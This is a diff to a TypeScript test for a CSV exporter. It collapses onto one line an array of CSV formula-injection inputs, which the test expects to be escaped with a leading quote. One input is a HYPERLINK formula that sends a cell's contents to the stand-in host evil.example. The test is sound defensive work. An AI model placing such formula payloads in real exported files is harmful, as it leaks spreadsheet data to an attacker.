@@ -5,16 +5,7 @@ import { toCsv } from "./csv-export";
 const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1];
 
 test("a cell a spreadsheet would run as a formula is written as plain text", () => {
-  const hostile = [
-    '=HYPERLINK("http://evil.example/?d="&E2,"Open")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "\t=1+1",
-    "\r=1+1",
-    "=1+1\nsecond line",
-    "\uFF1D1+1",
-  ];
+  const hostile = ['=HYPERLINK("http://evil.example/?d="&E2,"Open")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1\nsecond line", "\uFF1D1+1"];
   const row = Object.fromEntries(hostile.map((value, i) => [`c${i}`, value]));
   expect(cells(toCsv([row]))).toEqual(hostile.map((value) => `'${value}`));
 });
